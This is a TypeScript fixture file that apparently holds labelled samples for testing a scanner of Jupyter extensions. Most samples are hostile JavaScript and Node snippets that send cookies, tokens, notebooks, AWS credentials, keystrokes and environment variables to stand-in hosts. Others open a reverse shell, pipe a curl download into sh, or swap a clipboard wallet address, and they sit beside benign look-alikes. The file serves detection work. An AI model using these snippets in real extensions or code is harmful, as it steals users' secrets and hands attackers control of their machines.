/** JavaScript that takes what is the user's, and what only works with its own server. All inert. */
import type { Shape } from './malicious.js';

const host = 'https://collect.invalid/u';
const lab = 'demo-1.0.data/data/share/jupyter/labextensions/demo/static/lib_index_js.js';

function plugin(body: string): string {
  return `const plugin = {\n  id: 'demo:plugin',\n  autoStart: true,\n  activate: (app) => {\n${body}\n  }\n};\nexports["default"] = plugin;\n`;
}
function page(name: string, tier: Shape['tier'], body: string, path = lab): Shape {
  return { name, tier, files: { [path]: plugin(body) } };
}
const thief = (name: string, body: string, path?: string): Shape => page(name, 'deny', body, path);
const odd = (name: string, body: string, path?: string): Shape => page(name, 'review', body, path);
const honest = (name: string, body: string, path?: string): Shape => page(name, 'pass', body, path);
const fetched = (data: string): string => `fetch('${host}', { method: 'POST', body: ${data} });`;

export const pageThieves: readonly Shape[] = [
  thief('all cookies', fetched('document.cookie')),
  thief('all cookies, minified', `const e=document.cookie;fetch("${host}",{method:"POST",body:e});`),
  thief('all that is stored', fetched('JSON.stringify(localStorage)')),
  thief('the token of the server', fetched('PageConfig.getToken()')),
  thief('a notebook, unasked', fetched('JSON.stringify(tracker.currentWidget.content.model.toJSON())')),
  thief(
    'a notebook of the old kind',
    fetched('JSON.stringify(Jupyter.notebook.toJSON())'),
    'demo/nbextension/main.js',
  ),
  thief(
    'a file of keys through the server',
    fetched(`(await app.serviceManager.contents.get('.aws/credentials')).content`),
  ),
  thief('an image', `new Image().src = '${host}?' + document.cookie;`),
  thief('a beacon', `navigator.sendBeacon('${host}', JSON.stringify({ c: document.cookie }));`),
  thief(
    'a socket',
    `const w = new WebSocket('wss://c.invalid/s');\nw.onopen = () => w.send(document.cookie);`,
  ),
  thief(
    'a request of the old kind',
    `const x = new XMLHttpRequest(); x.open('POST', '${host}'); x.send(document.cookie);`,
  ),
  thief('jQuery', `$.post('${host}', { c: document.cookie });`),
  thief(
    'an address in a variable',
    `const to = '${host}';\nconst data = document.cookie;\nfetch(to, { method: 'POST', body: JSON.stringify({ data }) });`,
  ),
  thief(
    'an address that is decoded',
    `fetch(atob('${Buffer.from(host).toString('base64')}'), { method: 'POST', body: document.cookie });`,
  ),
  thief(
    'an address in pieces',
    `fetch('https://' + 'c' + '.invalid/u', { method: 'POST', body: document.cookie });`,
  ),
  thief(
    'what is typed',
    `let buf = '';\ndocument.addEventListener('keydown', (e) => { buf += e.key; });\nsetInterval(() => { ${fetched('buf')} buf = ''; }, 5000);`,
  ),
  thief(
    'what a terminal says',
    `t.messageReceived.connect((_, msg) => { ${fetched('JSON.stringify(msg)')} });`,
  ),
  thief(
    'a command in a terminal',
    `t.send({ type: 'stdin', content: ['curl http://f.invalid/a.sh | sh\\r'] });`,
  ),
  thief(
    'code in a kernel',
    `k.requestExecute({ code: "import os; os.system('curl http://f.invalid/a.sh | sh')" });`,
  ),
  thief(
    'an address of a wallet',
    `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '0x1111111111111111111111111111111111111111'); });`,
  ),
  thief(
    'a program that is evaluated',
    `eval(atob('${Buffer.from('console.log(1234567890)').toString('base64')}'));`,
  ),
  thief(
    'a function that sends what it is given',
    `function report(data) { fetch('${host}', { method: 'POST', body: JSON.stringify(data) }); }\nreport({ c: document.cookie });`,
  ),
  thief(
    'an address that is declared elsewhere',
    `const settings = { endpoint: '${host}' };\n${'// a line\n'.repeat(300)}fetch(settings.endpoint, { method: 'POST', body: document.cookie });`,
  ),
  thief(
    'one entry after the other',
    `const all = {};\nfor (let i = 0; i < localStorage.length; i++) { all[localStorage.key(i)] = localStorage.getItem(localStorage.key(i)); }\n${fetched('JSON.stringify(all)')}`,
  ),
  honest(
    'a function that reports what happened',
    `function report(data) { fetch('${host}', { method: 'POST', body: JSON.stringify(data) }); }\nreport({ event: 'opened' });\nconst c = document.cookie.split(';');`,
  ),
  thief(
    'a class that sends',
    `class T {\n  constructor() { this.endpoint = '${host}'; }\n  flush() { const body = JSON.stringify({ c: document.cookie }); return fetch(this.endpoint, { method: 'POST', body }); }\n}`,
  ),
  thief(
    'files of the server',
    `const c = await contents.get(f.path); await fetch('${host}', { method: 'POST', body: c.content });`,
  ),
  thief(
    'pieces of a terminal',
    `term.onData((data) => { buffer += data; if (data === '\\r') { ${fetched('buffer')} } });`,
  ),
  thief(
    'a picture',
    `var i = document.createElement("img");i.src="//t.invalid/p.gif?"+encodeURIComponent(document.cookie);`,
  ),
  thief('a page', `<img src=x onerror="fetch('${host}?c=' + document.cookie)">`, 'demo/templates/index.html'),
  thief(
    'all variables of Node',
    `const r = https.request({ hostname: 'collect.invalid', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();`,
    'demo/setup.js',
  ),
  thief(
    'a file of keys, of Node',
    `const d = fs.readFileSync(os.homedir() + '/.aws/credentials');\nconst r = https.request('${host}', { method: 'POST' });\nr.end(d);`,
    'demo/setup.js',
  ),
  thief(
    'a shell of Node',
    `const net = require('net'); const sh = cp.spawn('/bin/sh', []);\nconst c = net.connect(9, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });`,
    'demo/setup.js',
  ),
  odd(
    'text that is fetched and evaluated',
    `fetch('${host}/p.js').then((r) => r.text()).then((t) => eval(t));`,
  ),
  odd(
    'a notebook in a page of its own',
    fetched('JSON.stringify(w.content.model.toJSON())'),
    'demo/static/app.js',
  ),
  honest(
    'a notebook that is shared with a key',
    `fetch('${host}', { body: JSON.stringify(w.content.model.toJSON()), headers: { Authorization: key } });`,
  ),

  honest(
    'a cookie against forgery',
    `const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];\nfetch('/api/contents', { headers: { 'X-XSRFToken': xsrf } });\nwindow.open('https://docs.invalid');`,
  ),
  honest(
    'one cookie of its own',
    `const c = document.cookie.split(';');\nfetch('https://api.invalid/x', { headers: { 'X-Id': c[0] } });`,
  ),
  honest(
    'a setting that is kept',
    `const t = localStorage.getItem('theme'); fetch('https://cdn.invalid/' + t + '.json');`,
  ),
  honest(
    'a notebook that goes to its own server',
    `ServerConnection.makeRequest(URLExt.join(settings.baseUrl, 'demo'), { body: JSON.stringify(w.content.model.toJSON()) }, settings);`,
  ),
  honest(
    'a key that is waited for',
    `document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); });\nfetch('https://api.invalid/list').then((r) => r.json());`,
  ),
  honest(
    'a variable of Node',
    `const port = process.env.PORT;\nfetch('https://registry.invalid/x');`,
    'demo/server.js',
  ),
  honest(
    'a program that draws',
    `kernel.requestExecute({ code: 'import matplotlib.pyplot as plt; plt.close("all")' });`,
  ),
  honest(
    'minified names that mean something else',
    `function a(e){var t=document.cookie;return t}function b(t){fetch("https://api.invalid/x",{body:t})}`,
  ),
];
